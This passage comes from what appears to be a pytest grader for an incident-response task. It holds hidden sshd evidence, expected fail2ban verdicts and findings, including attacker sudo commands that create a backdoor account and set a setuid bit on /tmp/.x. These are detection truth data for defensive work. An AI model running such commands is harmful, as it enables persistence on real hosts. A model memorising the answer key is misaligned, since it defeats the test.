 {'files': {'auth.log': 'H4sIAAAAAAACA81cWY/cxhF+z6/go/Ugbh/VF4V9MGwHiQHbge0gCAwj4Ay52ol3h4M5bOvfp5uc2R2yD3ZzSG0ESSvtUV9VfdXV1cVif3t6yjBkiBQIFcCz38vT0/H9Q50dDo/VL1IQ9WuRfble17tjXWW70+pps/6t/pQ9NPvsebMts4d985xhlGOac5JjRbNdsz9mIAnmRggpsm++Joxhlf30ty8J44VkVJbrB4YrweXDQ71mZVlyQTkBsUIEl3JV4RKXFeZ/+TZGvV35/J/TdvPnF+aTxaE+HDbN9l2Rnf+VNbt6q5U3Kp8Odaf3F6dNdY8RYu+y1aes/R96dwXHcIFtOEotuPJ0fNRY5kO9PW7W5dFAPpSbp9O+/pA9NR+35XN9n7UIWd19OB4/3eufzvZGn/ts/9gcjlqbnOAcI5Vj7axW1fv9Y13GafVXjWgYKg+HP5p9Z6356ReCrmR3DCmESMtQH4AgC4DBm5vt0yrdbM4ocpjtCC4me7EfDUGBqRSI1Pg14Jf45b74Ja5I4dRr0ePpY/O6mHnOVM5FZw9HGFPLHj9Aqj0G+mIPOO2hBagCYQtOMK89zdPHV4ZAJyeaY3ZOTkwqYH2DggipBhnsi0HYaRArCC2wGMJJRP3p9lA+b65jTuQE1MUgeV7LVratdSZdrR6gpNVqjTjlYsWg1N9Ss4piulpJAZyqEiSN0y7VGUbtizOoxxlAC83NC9xXP/7w/S8Y6WV0jbfeN9uY1dE0xzOCH0xOBFs/NYch2ItopX1WINttmGvJf9/+Xj5tqu7HPp7qw7HjkmCiyeQ5JiqX8rJ5Ko7jxDqz8vqxXv/WLocPHd5p+9u2+WN7g8gZEn3f0jhdXOl9k+rJ/krXeLJgVuqSBIYsHU67VohXOtNBI+IET+YpUeSiPPl1GeUpzpcWU6qg0kJkFlPtX/4gYALxOKmTaUoUuShNfl1GaYpw5JAjgl2rV9DEnMcpvdqBgmKnkpQqckmSArrcmvNaT1ossYJZJbQ+AXw228+VvSmN4tRyueG1qHOGJwJd9wwMp7RA1mpQFFkpZHXaHk8B4YQCj5M7NT5TRS4ZnwFdxpNIjCsdPGE7ErjF0zG83ysdAnFSb2ApSeTCLPl0GWUpwpE9jrAum/uF2rlypmj+Mr0DAzIRLFSmYyioaSfZJwCM57ejA5MTwYJ26FOaPoMrSzSWaH47WjAGE8FCdhBUaOn4+uh9qhodxtIwrX+1594i+/nnf9/vjoc7mn3I/vGvr+/vHpvn+q794ofsnz998+O9kar//dUP33335ff6G06H/d1qs7076qWQvd9meqe5+73c3+mVd3f4dNAf4nR4Xdb6k+mu7B+AryD16Rw7Tr0cZqfvDCYngvnpY20riBaEWllIgT9163WcY6z/5FiT0jXNhCQqTuiEzD1J5CzNzStD41RJSNw+N17l7QsaDFtbCuHPZrhV+41pFa79nGYTKSyz9ZImFgDhn9ns1X+b/TZOLZfd7Y97DWeYIrAM1/s0WAgcB45kDtGcMs7ipE5ekYkil1yRflVSDmQ+Pzoosio3haSVMx+Ou9czuYt/RJmKk3sDSUkilyXJp8ooSVGetGiSvV2zA8RYpa0kSvmlnzsmdTJJiSKXJMmvyo0rqfWjgyLrwZrChL51lverlZ7luS6z7SyvXAggksouEKBUnNDJoZkocsnQ9KtyW9nVurFPEDUjC5RZaBxCrSdX1HNxleKDYqdRlC5yMYqCqiQ1nnyOdJAENp6wMvxu4ydfIibiRN5AUJLIZQnyqTJK0JgTLXJwga2iDEurkN2WHzfNwU88kX0T/GInE5QockmC/KqMEhTjSIskXhDrHIeVHJL0WFZNs/MHABdA48ROJilR5JIk+VUZJSnGkRZJUhfPQzyy6LOF0RZAUKvkFgAIhq3YxMge6lHEfqowFvfAaaTYqbGZKnLB2AyocnMCMY4ckkSFoyFCFIscheJmGkrkQlwOCfjcCrp9FmpMvZlnoTo4vSaGjWhFEXE2w8nszfAxHRZohreQ+mhvpwLapgJPEPQmFs0MJhE5kZd+oEDKHQRVtS5rWdUEYVxToZioKH8AtMYVquqaUymkDgIkRR2n3szjjhoOCsAFsWKOMuH3xnDeEUuWi8tAKgNAbm/ASkc7QqRcMcFKVsu1AgVCUlUDrUpYKfawUgIQW8epN/OsJGunEVFBbOeLUBdGiBwDyVnO+NkHSi/4OJnTUni6yBlS+JWZcYqkdGDcPuxnbw2mw8EGszuZ1zuDLRkRBHFCJ7OTKHI5dvyKJG2vbida9JiBVwut3b2i1w5gInGczMnsJIpcjh2/IjetndaHQ3Io7u+zLZjOtaGjky1ZcaBxQqeykypyMXYCiiQdm9xOdNFjnaQHkxvLme1sLAeVGmksW0YzzoiwjNYLwGrfAwRmbm1nAuvli4DIyRGZKHK5iPQrkjBt63ZhnxpuWm/Yyk3AAwel3mOFnEKOkS4LL4OiSPpOSoAo41wvLFGuKrKuKKzqqka8lnQFmNOVXJeCE05BxumXWha2il/qQuKsC7lZCtTOBlLFvkOj3WFcoi4zb4IzNN/JMajf/CdHTZpwlH2MMP8DITsjqOvHyUGR01ZuusiFVm5QkYSHQW4XDlcuSMesC6PWkHxZPW+82VpiEilzMjeJIpfjxq/IKDejPhySw1BB7UCwm4TNvlw/1b6EzQTmcUKnspMqcjF2AoqMsjPuRIseVSBuo/GkAyYTDCBO6GR6EkUuR49fkdsOmK0T+/SYIe2CWc8DmeSxRQlRueA5uZySOJXzlSRB7RYoSYR5udRuFnOEIht3jOVc5oSSS+OOoBkbd0H1Zm/cYdIeprE1dExg7gnnFzCYCBaacMbtIwDqEN1/XXYeO1owkBPBgnZwM+ROicNFbH47WjDHe9ZxYCN2MC16GMaSq2XfXpb6pMBzqnIJl2sqorVyXlNhntCcX8C5ln1OhAL65z8DwHvvrVwDPGvHlR/rbF/v6tIkGciOG/3JIvvlFvBfB+jy/8/pfq1mczpmkU4nMztdtXu5I/OQBTJPC0bVRLDQiiXEtEkItzeepYNH625uJiK6XO2ix5yj49RyEfjaPhgIP0/HYOi30wwCt2/SUJyQz234kA+/WuOROzQcCDtXbdcIwl43ilP61oz71ZrAuJAShobrktPu+nDG3pjxgFrpjDM5fN/mjGAXlwq9MeMBtSYwzkFaoQ7gQBCYvjXjfrUmrHGMHaEu7EugNILw3soUdq4+wCiWgDF7E7WDu76KqBt9EUTM8C7qwczfGEXKqsreP2fvD1k7krMqNbuHT4fTropTZJEZHAMpC6IsSMqdtqPk0aP143NTmTk9lt0dn3d3+Z9x2EuZa27TkxYkEzO9dryp4rCWMc+8YOqq5gDk7KWjAQPnu8xRYP7SkZ/nmYm1YwvJlr2TEFQucI6FNbg6ptPY4Oqr5G5D0RXE9ZnjIt7uWsm2Oou57a4PAEjxBICZ+0AtHHa98qrtjrtfkbEcc/0Hw+WFStXbisYgZr5fsYUjqEBkuJ4lnKc0W/Vfcwfu5Y72izdOaY7pcGNO6XvgBRIKM/tnDR/Ihd9DyXn72BrAtRaDOo2uxRfJXVVLRe9u0E48c7xOIRWPW4t9AKpI7+LJMYD512IL5+jJ0tl7shcwRiaCBbcFZt4dsN/lU0TE8YKV/i1ygvE5p4BEqs9MEGJ+ZsyB3L5fT6lBlgw8O9ChxvOXK0GpDryZHh2MaTe/M3TNT11wbOFd/8WHjkwT1Gk00/TZAULJYAszfQnHFQRK4Tc12a9TosmMIIIcJlszGCYo5Bvb7FUq0WjNcm9iupPP7el580jxbYkOKJUa3GDtcsKkD0od8sWbGh1QKn1Fg7KMlnbvwpRUb8t0QKnU8GbITmPA7Us6tHwhY19eAV3uU1M3nRMHE+dbH2bZycIKLrGVaUWpY2kpGX15OWG6YkHkcvwh2MopIYxFbBL9dwTN2QMj3KYL/as1wHcAar84cgCqGh0c+2x3iMS88cDTN/kF00yhOQtYzuevljswmAgWqpZx1010iKZkdjtw18sjE8GCdugDBS3AvrqRCjG/HS2Y41r6OLAROwD1Lr699MsIW8IOHVdITQQL2tG+auZ4Pg1Uzm9HC+Y4usaBBe3gxkXYFo3ZAna0YGwqWNAO1Q542XFFxAJ2dGB0IpjTjv8BgSoB+Y5oAAA=',
            'timedatectl.txt': 'H4sIAAAAAAACA12MQQrCMBQF9znFW+qiWAtS6FbciQjGA5TXDwbTfGg+hfT0ZmtnPTPAH3flGGFhlgEHaoxCkwld212atm/O/dFhh68yNk21uBlPb391r5JNZjAqv8gl8bNoCptMA4rk3eHhn8iyrIH1MNLCKu4HYr22mZYAAAA='},
  'host': 'vault-fe',
  'truth': {'filter': [['Jul 14 02:51:16 vault-fe sshd[8733]: Failed password for rhea from 10.21.109.119 port 49002 '
                        'ssh2',
                        '10.21.109.119'],
                       ['Jul 14 09:18:56 vault-fe sshd[8824]: Failed password for invalid user support from '
                        '212.216.129.88 port 54597 ssh2',
                        '212.216.129.88'],
                       ['Jul 14 09:18:56 vault-fe sshd[8824]: Invalid user support from 212.216.129.88 port 54597',
                        None],
                       ['Jul 14 09:19:38 vault-fe sshd[8854]: Failed password for invalid user user from '
                        '212.216.129.88 port 45706 ssh2',
                        '212.216.129.88'],
                       ['Jul 14 09:19:38 vault-fe sshd[8854]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=212.216.129.88',
                        None],
                       ['Jul 14 09:21:07 vault-fe sshd[8873]: Failed password for invalid user guest from '
                        '212.216.129.88 port 63383 ssh2',
                        '212.216.129.88'],
                       ['Jul 14 09:25:50 vault-fe sshd[8900]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=212.216.129.88  user=olga',
                        None],
                       ['Jul 14 09:33:08 vault-fe sshd[8930]: Failed password for invalid user ubuntu from '
                        '212.216.129.88 port 42346 ssh2',
                        '212.216.129.88'],
                       ['Jul 15 02:53:23 vault-fe sshd[8994]: Failed password for invalid user test from 103.113.1.150 '
                        'port 37829 ssh2',
                        '103.113.1.150'],
                       ['Jul 15 02:55:12 vault-fe sshd[9026]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.1.150  user=bjorn',
                        None],
                       ['Jul 15 02:57:04 vault-fe sshd[9061]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.1.150',
                        None],
                       ['Jul 15 02:57:04 vault-fe sshd[9061]: pam_unix(sshd:auth): check pass; user unknown', None],
                       ['Jul 15 02:57:10 vault-fe sshd[9084]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.1.150',
                        None],
                       ['Jul 15 02:58:18 vault-fe sshd[9119]: Failed password for invalid user guest from '
                        '103.113.1.150 port 33661 ssh2',
                        '103.113.1.150'],
                       ['Jul 15 02:58:18 vault-fe sshd[9119]: Invalid user guest from 103.113.1.150 port 33661', None],
                       ['Jul 15 02:58:18 vault-fe sshd[9119]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.1.150',
                        None],
                       ['Jul 15 03:00:35 vault-fe sshd[9164]: Invalid user ubuntu from 103.113.1.150 port 36759', None],
                       ['Jul 15 03:00:35 vault-fe sshd[9164]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.1.150',
                        None],
                       ['Jul 15 03:00:45 vault-fe sshd[9179]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.1.150',
                        None],
                       ['Jul 15 03:06:21 vault-fe sshd[9198]: Failed password for invalid user hadoop from '
                        '103.113.1.150 port 46743 ssh2',
                        '103.113.1.150'],
                       ['Jul 15 03:06:21 vault-fe sshd[9198]: Invalid user hadoop from 103.113.1.150 port 46743', None],
                       ['Jul 15 03:06:21 vault-fe sshd[9198]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=103.113.1.150',
                        None],
                       ['Jul 15 03:10:01 vault-fe sshd[9260]: Failed password for invalid user nagios from '
                        '103.113.1.150 port 34632 ssh2',
                        '103.113.1.150'],
                       ['Jul 15 04:41:22 vault-fe sshd[9357]: pam_unix(sshd:session): session opened for user '
                        'olga(uid=1001) by (uid=0)',
                        None],
                       ['Jul 15 05:20:27 vault-fe sshd[9379]: Failed password for invalid user guest from 77.142.5.56 '
                        'port 39063 ssh2',
                        '77.142.5.56'],
                       ['Jul 15 05:24:47 vault-fe sshd[9384]: Failed password for invalid user nagios from 77.142.5.56 '
                        'port 30204 ssh2',
                        '77.142.5.56'],
                       ['Jul 15 05:31:51 vault-fe sshd[9405]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=77.142.5.56',
                        None],
                       ['Jul 15 05:31:54 vault-fe sshd[9411]: Failed password for bjorn from 77.142.5.56 port 56527 '
                        'ssh2',
                        '77.142.5.56'],
                       ['Jul 15 05:35:48 vault-fe sshd[9444]: Failed password for invalid user user from 77.142.5.56 '
                        'port 44581 ssh2',
                        '77.142.5.56'],
                       ['Jul 15 06:47:27 vault-fe sshd[9525]: Invalid user test from 77.142.5.56 port 59359', None],
                       ['Jul 15 06:50:37 vault-fe sshd[9560]: Failed password for invalid user oracle from 77.142.5.56 '
                        'port 45716 ssh2',
                        '77.142.5.56'],
                       ['Jul 15 06:50:37 vault-fe sshd[9560]: pam_unix(sshd:auth): check pass; user unknown', None],
                       ['Jul 15 06:59:06 vault-fe sshd[9566]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=77.142.5.56',
                        None],
                       ['Jul 15 13:37:48 vault-fe CRON[10216]: pam_unix(cron:session): session closed for user root',
                        None],
                       ['Jul 15 16:55:52 vault-fe sshd[8696]: Failed password for root from 218.196.39.84 port 41741 '
                        'ssh2',
                        '218.196.39.84'],
                       ['Jul 15 16:56:08 vault-fe sshd[8696]: Failed password for root from 218.196.39.84 port 41741 '
                        'ssh2',
                        '218.196.39.84'],
                       ['Jul 15 22:35:26 vault-fe sshd[9606]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=218.226.13.237  user=sami',
                        None],
                       ['Jul 15 22:36:17 vault-fe sshd[9622]: Failed password for root from 218.226.13.237 port 42538 '
                        'ssh2',
                        '218.226.13.237'],
                       ['Jul 15 22:37:15 vault-fe sshd[9633]: Failed password for sami from 218.226.13.237 port 37884 '
                        'ssh2',
                        '218.226.13.237'],
                       ['Jul 15 22:37:15 vault-fe sshd[9633]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=218.226.13.237  user=sami',
                        None],
                       ['Jul 15 22:42:31 vault-fe sshd[9655]: Failed password for root from 218.226.13.237 port 58287 '
                        'ssh2',
                        '218.226.13.237'],
                       ['Jul 15 22:42:32 vault-fe sshd[9690]: Failed password for sami from 218.226.13.237 port 36488 '
                        'ssh2',
                        '218.226.13.237'],
                       ['Jul 15 23:24:13 vault-fe CRON[10448]: pam_unix(cron:session): session closed for user root',
                        None],
                       ['Jul 16 03:01:25 vault-fe sshd[9785]: Failed password for olga from 10.49.71.17 port 38841 '
                        'ssh2',
                        '10.49.71.17'],
                       ['Jul 16 03:01:25 vault-fe sshd[9785]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.49.71.17  user=olga',
                        None],
                       ['Jul 16 03:15:12 vault-fe sshd[9841]: Accepted password for rhea from 10.55.165.114 port 63984 '
                        'ssh2',
                        None],
                       ['Jul 16 04:04:44 vault-fe sshd[9879]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.6.105.44  user=olga',
                        None],
                       ['Jul 16 04:05:41 vault-fe CRON[10344]: pam_unix(cron:session): session opened for user '
                        'root(uid=0) by (uid=0)',
                        None],
                       ['Jul 16 04:05:52 vault-fe CRON[10344]: pam_unix(cron:session): session closed for user root',
                        None],
                       ['Jul 16 07:15:27 vault-fe sshd[10018]: Failed password for olga from 10.5.106.49 port 32463 '
                        'ssh2',
                        '10.5.106.49'],
                       ['Jul 16 07:15:27 vault-fe sshd[10018]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.5.106.49  user=olga',
                        None],
                       ['Jul 16 07:17:33 vault-fe sshd[10027]: Failed password for olga from 10.5.106.49 port 42349 '
                        'ssh2',
                        '10.5.106.49'],
                       ['Jul 16 07:18:16 vault-fe sshd[10061]: Failed password for olga from 10.5.106.49 port 35024 '
                        'ssh2',
                        '10.5.106.49'],
                       ['Jul 16 07:46:10 vault-fe sshd[10078]: pam_unix(sshd:session): session opened for user '
                        'olga(uid=1001) by (uid=0)',
                        None]],
            'findings': {'brute_force': [{'failures': 7, 'first_seen': '2025-07-14T09:17:07Z', 'ip': '212.216.129.88'},
                                         {'failures': 14, 'first_seen': '2025-07-15T02:53:23Z', 'ip': '103.113.1.150'},
                                         {'failures': 8, 'first_seen': '2025-07-15T16:55:52Z', 'ip': '218.196.39.84'}],
                         'compromised': [{'ip': '218.226.13.237', 'time': '2025-07-15T22:47:16Z', 'user': 'sami'}],
                         'sudo_after_compromise': [{'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                                    'time': '2025-07-15T22:47:53Z',
                                                    'user': 'sami'},
                                                   {'command': '/usr/bin/chmod 4755 /tmp/.x',
                                                    'time': '2025-07-15T22:48:29Z',
                                                    'user': 'sami'},
                                                   {'command': '/usr/bin/id',
                                                    'time': '2025-07-15T22:51:18Z',
                                                    'user': 'sami'}]}}}]
PROG = '/srv/ir/hunt'
FILTER = '/srv/ir/filter.d/ir-auth.conf'

def _blocklist(path, fmt):
    pat = {"hosts_deny": r"^sshd\s*:\s*(\[[0-9a-fA-F:]+\]|[0-9.]+)\s*$",
           "ipset": r"^add\s+(ir-block4|ir-block6)\s+(\S+)(?:\s+-exist)?\s*$",
           "nft": r"^add\s+element\s+inet\s+filter\s+(ir_block4|ir_block6)\s*\{\s*([^}]*?)\s*\}\s*;?\s*$"}[fmt]
    got, bad = [], []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if not s or s.startswith("#") or (fmt == "ipset" and s.startswith("create ")):
                continue
            m = re.match(pat, s)
            if not m:
                bad.append(s)
                continue
            if fmt == "hosts_deny":
                a = m.group(1)
                v6 = a.startswith("[")
                items = [(a.strip("[]"), v6)]
            else:
                v6 = m.group(1).endswith("6")
                items = [(x.strip(), v6) for x in m.group(2).split(",") if x.strip()]
            for a, v6 in items:
                try:
                    ok = ipaddress.ip_address(a).version == (6 if v6 else 4)
                except ValueError:
                    ok = False
                (got if ok else bad).append(a)
    return got, bad


def problems(out, truth, fmt):
    """What is wrong in the outputs under `out` against `truth` (an empty list: all right)."""
    p = os.path.join(out, "findings.json")
    if not os.path.isfile(p):
        return ["findings.json is missing"]
    try:
        with open(p) as f:
            got = json.load(f)
    except (ValueError, UnicodeDecodeError) as e:
        return [f"findings.json does not parse: {e}"]
    if not isinstance(got, dict):
        return ["findings.json is not an object"]
    msgs = []
    for key, want in sorted(truth["findings"].items()):
        have = got.get(key)
        if not isinstance(have, list) or not all(isinstance(x, dict) for x in have):
            msgs.append(f"findings.json: {key} is not a list of objects")
            continue
        fields = sorted(want[0])
        norm = [{k: x.get(k) for k in fields} for x in have]
        if norm != want:
            miss = [w for w in want if w not in norm][:3]
            extra = [x for x in norm if x not in want][:3]
            msgs.append(f"findings.json: {key} differs (missing {miss}, unexpected {extra}"
                        + (", or out of order)" if not miss and not extra else ")"))
    if "blocklist" in truth:
        p = os.path.join(out, BLOCKFILE)
        if not os.path.isfile(p):
            msgs.append(f"{BLOCKFILE} is missing")
        else:
            have, bad = _blocklist(p, fmt)
            if bad:
                msgs.append(f"{BLOCKFILE}: lines or addresses not in the stated format: {bad[:3]}")
            if sorted(set(have)) != sorted(truth["blocklist"]) or len(have) != len(set(have)):
                msgs.append(f"{BLOCKFILE}: missing {sorted(set(truth['blocklist']) - set(have))[:4]}, "
                            f"unexpected {sorted(set(have) - set(truth['blocklist']))[:4]}, repeated: {len(have) != len(set(have))}")
    if "timeline" in truth:
        p = os.path.join(out, "timeline.csv")
        if not os.path.isfile(p):
            msgs.append("timeline.csv is missing")
        else:
            with open(p, newline="") as f:
                rows = [r for r in csv.reader(f) if r]
            want = [["time", "source", "ip", "user", "event"]] + [list(r) for r in truth["timeline"]]
            if rows != want:
                n = next((i for i, (a, b) in enumerate(zip(rows, want)) if a != b), min(len(rows), len(want)))
                msgs.append(f"timeline.csv: {len(rows) - 1} rows for {len(want) - 1}; first difference at row {n}: "
                            f"{rows[n] if n < len(rows) else None} for {want[n] if n < len(want) else None}")
    return msgs


HOSTRX = r"(?P<host>[0-9A-Fa-f.:]*[0-9A-Fa-f])"


def filter_problems(path, cases):
    """How a fail2ban filter judges held-out lines: a failregex matches (<HOST>: the address), no ignoreregex does."""
    if not os.path.isfile(path):
        return [f"{path} is missing"]
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        cp.read(path)
        fail = cp.get("Definition", "failregex")
        ign = cp.get("Definition", "ignoreregex", fallback="")
    except (configparser.Error, UnicodeDecodeError) as e:
        return [f"{path}: not a filter with [Definition] failregex ({e})"]
    def compiled(text):
        out = []
        for l in text.splitlines():
            l = l.strip()
            if l:
                out.append(re.compile(l.replace("<HOST>", HOSTRX, 1).replace("<HOST>", "(?:[0-9A-Fa-f.:]+)")))
        return out
    try:
        fails, ignores = compiled(fail), compiled(ign)
    except re.error as e:
        return [f"{path}: a regex does not compile: {e}"]
    bad = []
    for line, want in cases:
        got = None
        if not any(i.search(line) for i in ignores):
            for f in fails:
                m = f.search(line)
                if m:
                    try:
                        a = ipaddress.ip_address(m.group("host"))
                        got = str(getattr(a, "ipv4_mapped", None) or a)
                    except (ValueError, IndexError):
                        got = "(no address)"
                    break
        if got != want:
            bad.append((line[:160], got, want))
    if bad:
        return [f"{path}: {len(bad)} of {len(cases)} held-out lines judged wrong (line, flagged, expected): {bad[:3]}"]
    return []


def test_findings_on_this_host():
    msgs = problems("/srv/ir/out", {"findings": VISIBLE["findings"]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_filter_on_held_out_lines(case):
    msgs = filter_problems(FILTER, HIDDEN[case]["truth"]["filter"])
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_hunt_on_held_out_evidence(case):
    h = HIDDEN[case]
    src = tempfile.mkdtemp()
    ev = os.path.join(src, h["host"])
    os.makedirs(ev)
    for name, data in h["files"].items():
        with open(os.path.join(ev, name), "wb") as f:
            f.write(gzip.decompress(base64.b64decode(data)))
    assert os.path.isfile(PROG), f"{PROG} is missing"
    ev = tg_guard.give(ev)
    prog = tg_guard.give(PROG)
    os.chmod(prog, 0o755)
    out = os.path.join(tg_guard.scratch("out"), "result")
    p = tg_guard.run([prog, ev, out], timeout=120)
    assert p.returncode == 0, f"{PROG} failed on held-out evidence: {p.stderr[-800:]}"
    msgs = problems(out, h["truth"], FMT)
    assert not msgs, f"held-out host {h['host']}: " + "\n".join(msgs)
